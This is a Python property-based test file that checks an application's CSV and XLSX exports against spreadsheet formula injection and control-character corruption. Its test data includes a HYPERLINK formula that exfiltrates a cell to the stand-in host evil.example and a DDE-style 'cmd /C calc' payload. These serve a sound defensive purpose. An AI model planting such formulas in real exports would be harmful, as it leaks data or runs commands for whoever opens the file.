"""No stored text can break or weaponise an export: every CSV and XLSX writer, fed any text, writes a
file that opens, holds no formula, and gives the text back — with only the documented replacements
(`app/exports/cells.py`): a leading apostrophe on formula-like CSV text, ␝ for the GS1 separator,
visible stand-ins for what XLSX cannot hold, line feeds for line breaks in XLSX, Excel's length limit."""

from __future__ import annotations

import csv
import dataclasses
import io
import itertools
import zipfile
from collections.abc import Iterator
from datetime import date
from decimal import Decimal

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from app.digest import digest_csv
from app.exports import fsma204, recall_files, waste
from app.models import LotStatus, RecallScope
from app.schemas import (
    Change,
    ExpiringRow,
    MonthProductRow,
    ReportTotalsOut,
    WasteReport,
)
from app.schemas.recall import ConsigneeLineOut, ConsigneeOut, PartyOut, RecallReportOut

EVIL = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'
GS = "\x1d"
XLSX_LIMIT = 32767

# Any text the database can hold (no lone surrogates), with every control character likely.
_CHAR = st.one_of(st.characters(min_codepoint=0, max_codepoint=0x1F),
                  st.sampled_from("\x7f\x85\u2028\ufffe\uffff\u241d'\"=+-@, ;"),
                  st.characters(blacklist_categories=("Cs",)))
STORED = st.one_of(
    st.text(_CHAR, max_size=40),
    st.tuples(st.sampled_from(["=", "+", "-", "@", "\t", "\r"]), st.text(_CHAR, max_size=30)).map("".join),
    st.sampled_from([EVIL, "-5", "+44 1632 960003", "@SUM(1+1)*cmd|' /C calc'!A0", "#N/A", "RB\x1d7731", ""]),
)
LONG = st.tuples(st.sampled_from(["=", "a", GS, "\x01", "é"]), st.integers(XLSX_LIMIT - 2, XLSX_LIMIT + 500)).map(
    lambda t: t[0] * t[1])


def csv_expected(stored: str) -> str:
    """The documented CSV replacements: ␝ for GS, an apostrophe before formula-like text."""
    text = stored.replace(GS, "\u241d")
    return "'" + text if text[:1] in ("=", "+", "-", "@", "\t", "\r") else text


def xlsx_expected(stored: str) -> str:
    """The documented XLSX replacements, written out character by character."""
    out = []
    for ch in stored:
        if ch == GS:
            out.append("\u241d")
        elif ord(ch) < 0x20 and ch not in "\t\n\r":
            out.append(chr(0x2400 + ord(ch)))
        elif ch in "\ufffe\uffff":
            out.append("\ufffd")
        else:
            out.append(ch)
    text = "".join(out).replace("\r\n", "\n").replace("\r", "\n")
    return text if len(text) <= XLSX_LIMIT else text[: XLSX_LIMIT - 1] + "…"


def csv_rows(data: bytes | str) -> list[list[str]]:
    text = data.decode("utf-8-sig") if isinstance(data, bytes) else data
    return list(csv.reader(io.StringIO(text, newline="")))


def xlsx_cells(data: bytes) -> Iterator[tuple[str, object, str, bool]]:
    """(sheet, value, data type, quote prefix) of every cell, after proving no sheet holds a formula."""
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in z.read(name) and b"<f " not in z.read(name), name
    book = load_workbook(io.BytesIO(data))
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                yield ws.title, cell.value, cell.data_type, bool(cell.quotePrefix)


def _fsma_row(texts: list[str], quantity: Decimal) -> fsma204.Row:
    t = itertools.cycle(texts)
    text_fields = [f.name for f in dataclasses.fields(fsma204.Row) if f.type == "str"]
    return fsma204.Row(**{"event": "Shipping", "event_date": date(2026, 3, 1), "quantity": quantity,
                          **{name: next(t) for name in text_fields if name != "event"}})


_COL = {name: fsma204.HEADERS.index(header) for name, header in
        (("tlc", "Traceability Lot Code"), ("product", "Product Description"), ("quantity", "Quantity"),
         ("ship_to", "Ship-To or Receiving Location"), ("internal_lot", "Internal Lot Code"))}


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(STORED, min_size=1, max_size=15))
def test_fsma204_files_open_without_formulas_and_give_the_text_back(texts: list[str]) -> None:
    row = _fsma_row(texts, Decimal("-5"))
    [_, got] = csv_rows(fsma204.to_csv([row]))
    assert got[_COL["tlc"]] == csv_expected(row.tlc) and got[_COL["product"]] == csv_expected(row.product)
    assert got[_COL["ship_to"]] == csv_expected(row.ship_to)
    assert got[_COL["quantity"]] == "-5", "a negative quantity stays a number"
    sheet = [c for c in xlsx_cells(fsma204.to_xlsx([row])) if c[0] == "Traceability records"]
    values = sheet[len(fsma204.HEADERS):]
    assert (values[_COL["quantity"]][1], values[_COL["quantity"]][2]) == (-5, "n")
    for name in ("tlc", "product", "ship_to", "internal_lot"):
        value, kind, quoted = values[_COL[name]][1:]
        expected = xlsx_expected(getattr(row, name))
        assert (value or "") == expected
        if expected:
            assert kind == "s"
            assert quoted == expected.startswith(("=", "+", "-", "@", "\t"))


@settings(max_examples=5, deadline=None, suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large])
@given(LONG)
def test_very_long_text_is_cut_to_what_a_cell_holds(stored: str) -> None:
    row = _fsma_row([stored], Decimal(1))
    [_, got] = csv_rows(fsma204.to_csv([row]))
    assert got[_COL["tlc"]] == csv_expected(stored), "CSV has no length limit: the text is whole"
    values = [c for c in xlsx_cells(fsma204.to_xlsx([row])) if c[0] == "Traceability records"]
    assert values[len(fsma204.HEADERS) + _COL["tlc"]][1] == xlsx_expected(stored)


def _party(name: str, address: str) -> PartyOut:
    return PartyOut.model_construct(id=1, name=name, contact_name=name, phone=address, email=None, address=address)


def _recall_file(texts: list[str]) -> recall_files.ReportFile:
    a, b, c = (texts * 3)[:3]
    line = ConsigneeLineOut.model_construct(
        shipment_id=1, shipment_number="SH-000001", shipped_on=date(2026, 3, 1), order_number="SO-000001",
        customer_reference=b, lot_id=1, sku="JAM", lot_code=c, quantity=Decimal("-2.5"), unit="ea",
        override_reason=None)
    report = RecallReportOut.model_construct(
        scope=RecallScope.FORWARD, starts=[], lots=[], stock=[], mass_balance=[], suppliers=[],
        consignees=[ConsigneeOut.model_construct(customer=_party(a, b), lines=[line], shipped={}, returned={})],
        totals=ReportTotalsOut.model_construct(lots=1, consignees=1, shipment_lines=1, unbalanced_lots=0,
                                               shipped={"ea": Decimal("-2.5")}, on_hand={}))
    return recall_files.ReportFile(title="Recall RC-0001", facts=[("Reason", c), ("Opened by", a)], report=report)


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(STORED, min_size=1, max_size=3))
def test_recall_report_files_open_without_formulas_and_give_the_text_back(texts: list[str]) -> None:
    doc = _recall_file(texts)
    name, reference = (texts * 3)[:2]
    rows = csv_rows(recall_files.to_csv(doc))
    consignee = next(r for r in rows if len(r) == 13 and r[6] == "SH-000001")
    assert consignee[0] == csv_expected(name) and consignee[8] == csv_expected(reference)
    assert consignee[11] == "-2.5"
    cells = [c for c in xlsx_cells(recall_files.to_xlsx(doc)) if c[0] == "Consignees"]
    assert (cells[13][1] or "") == xlsx_expected(name)
    assert (cells[13 + 11][1], cells[13 + 11][2]) == (-2.5, "n")
    assert recall_files.to_pdf(doc).startswith(b"%PDF")


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(STORED, min_size=1, max_size=4))
def test_waste_report_files_open_without_formulas_and_give_the_text_back(texts: list[str]) -> None:
    sku, name, unit, month = (texts * 4)[:4]
    zero = Change.model_construct(current=Decimal(0), previous=Decimal(0), change=Decimal(0), change_pct=None)
    report = WasteReport.model_construct(
        date_from=date(2026, 1, 1), date_to=date(2026, 1, 31), previous_from=date(2025, 12, 1),
        previous_to=date(2025, 12, 31), months=[month],
        by_month_product=[MonthProductRow.model_construct(month=month, sku=sku, product_name=name, unit=unit,
                                                          quantity=Decimal("-3"), value=Decimal("1.5"))],
        by_month=[], by_product=[], by_reason=[], by_location=[], write_offs=1, total=zero,
        intake_value=Decimal(0), share_pct=None)
    rows = csv_rows(waste.report_csv(report, "EUR"))
    data = rows[rows.index(["By month and product"]) + 2]
    assert data == [csv_expected(month), csv_expected(sku), csv_expected(name), "-3", csv_expected(unit), "1.5"]
    cells = [c for c in xlsx_cells(waste.report_xlsx(report, "EUR")) if c[0] == "Month and product"]
    assert [(v or "") if k != "n" else v for _, v, k, _ in cells[6:]] == [
        xlsx_expected(month), xlsx_expected(sku), xlsx_expected(name), -3, xlsx_expected(unit), 1.5]


@settings(max_examples=40, deadline=None)
@given(st.lists(STORED, min_size=1, max_size=4))
def test_the_expiry_digest_csv_keeps_text_as_text_and_numbers_as_numbers(texts: list[str]) -> None:
    name, location, lot, sku = (texts * 4)[:4]
    row = ExpiringRow.model_construct(
        lot_id=1, sku=sku, product_name=name, unit="kg", lot_code=lot, expiry=date(2026, 2, 26),
        status=LotStatus.RELEASED, location_id=1, location=location, warehouse="MAIN", on_hand=Decimal("-1.5"),
        unit_cost=Decimal("2"), value=Decimal("3"), made_on=date(2026, 1, 1), days_left=-3, expired=True,
        alert_days=7, hold_reason=None, customers=[], more_customers=0)
    [_, got] = csv_rows(digest_csv([row]))
    assert got[1:5] == [csv_expected(sku), csv_expected(name), csv_expected(lot), csv_expected(location)]
    assert got[7:9] == ["-3", "-1.5"], "days left and quantities stay numbers"
